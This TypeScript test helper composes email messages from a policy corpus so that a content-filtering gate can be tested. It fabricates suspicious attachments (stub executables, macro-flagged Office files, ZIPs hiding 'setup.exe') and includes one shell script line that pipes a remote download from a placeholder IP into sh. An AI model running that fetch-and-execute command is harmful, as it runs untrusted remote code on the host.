/**
 * The content-gate corpus (test/fixtures/policy/*.yaml) as real MIME messages: each entry is
 * composed with nodemailer's MailComposer (multipart, quoted-printable / base64 as it chooses)
 * and its attachments are built by kind — PE/ELF/script bytes, PDF/PNG headers, real ZIP files
 * (stored entries, central directory; optionally encrypted-flagged), OLE2 with a VBA project.
 * Exports loadCorpus, composeEntry, buildZip, CorpusEntry, CATEGORY_OF.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import { parse as parseYaml } from 'yaml';

export interface CorpusEntry {
  readonly id: string;
  readonly label: string;
  readonly hard?: boolean;
  readonly subject: string;
  readonly text?: string;
  readonly html?: string;
  readonly attach?: readonly { readonly name: string; readonly kind: string }[];
  readonly headers?: Readonly<Record<string, string>>;
  readonly rcpts?: number;
}

/** Which check must answer for a label (the category a refusal names). */
export const CATEGORY_OF: Readonly<Record<string, string>> = {
  sensitive: 'sensitive-data',
  malware: 'attachments',
  bulk: 'bulk',
};

export const CORPUS_DIR = new URL('../fixtures/policy/', import.meta.url);

export function loadCorpus(): CorpusEntry[] {
  const dir = CORPUS_DIR.pathname;
  const files = readdirSync(dir).filter((f) => f.endsWith('.yaml')).sort();
  return files.flatMap((file) => parseYaml(readFileSync(join(dir, file), 'utf8')) as CorpusEntry[]);
}

/** The held-out set (fixtures/policy/holdout): written after the rules were frozen, never tuned on. */
export function loadHoldout(): CorpusEntry[] {
  return parseYaml(readFileSync(new URL('holdout/holdout.yaml', CORPUS_DIR), 'utf8')) as CorpusEntry[];
}

/** A ZIP of stored (uncompressed) entries, as a real archiver writes it. */
export function buildZip(entries: readonly { name: string; data: Buffer }[], options: { encrypted?: boolean } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  const flags = options.encrypted ? 0x1 : 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const crc = crc32(entry.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(flags, 6);
    local.writeUInt32LE(crc, 14); local.writeUInt32LE(entry.data.length, 18); local.writeUInt32LE(entry.data.length, 22); local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6); central.writeUInt16LE(flags, 8);
    central.writeUInt32LE(crc, 16); central.writeUInt32LE(entry.data.length, 20); central.writeUInt32LE(entry.data.length, 24); central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.data);
    centrals.push(central, name);
    offset += 30 + name.length + entry.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const PE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(120, 0), Buffer.from('This program cannot be run in DOS mode.')]);
const OLE2_HEADER = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);

export function attachmentBytes(kind: string): Buffer {
  switch (kind) {
    case 'pe': return PE;
    case 'elf': return Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57)]);
    case 'script': return Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n');
    case 'pdf': return Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
    case 'png': return Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
    case 'zip-exe': return buildZip([{ name: 'scan_0042.pdf', data: Buffer.from('%PDF-1.4') }, { name: 'open_me/setup.exe', data: PE }]);
    case 'zip-docs': return buildZip([{ name: 'photo-1.jpg', data: Buffer.from('ffd8ffe0', 'hex') }, { name: 'notes.pdf', data: Buffer.from('%PDF-1.4') }]);
    case 'docx': return buildZip([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }, { name: 'word/document.xml', data: Buffer.from('<w:document/>') }]);
    case 'docm-zip': return buildZip([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }, { name: 'word/document.xml', data: Buffer.from('<w:document/>') }, { name: 'word/vbaProject.bin', data: OLE2_HEADER }]);
    case 'doc-macro': return Buffer.concat([OLE2_HEADER, Buffer.alloc(504), Buffer.from('Macros\0VBA\0', 'utf16le'), Buffer.from('_VBA_PROJECT', 'utf16le'), Buffer.alloc(64)]);
    case 'rar': return Buffer.from('526172211a0700', 'hex');
    case 'encrypted-zip': return buildZip([{ name: 'report.pdf', data: Buffer.from('garbled') }], { encrypted: true });
    default: throw new Error(`unknown attachment kind ${kind}`);
  }
}

export function recipientsOf(entry: CorpusEntry): string[] {
  return Array.from({ length: entry.rcpts ?? 1 }, (_, i) => `reader${i}@example.org`);
}

export async function composeEntry(entry: CorpusEntry, from = 'news@sender.test'): Promise<Buffer> {
  const composer = new MailComposer({
    from,
    to: 'reader0@example.org',
    subject: entry.subject,
    ...(entry.text === undefined ? {} : { text: entry.text }),
    ...(entry.html === undefined ? {} : { html: entry.html }),
    headers: { ...(entry.headers ?? {}) },
    attachments: (entry.attach ?? []).map((a) => ({ filename: a.name, content: attachmentBytes(a.kind) })),
  });
  return composer.compile().build();
}
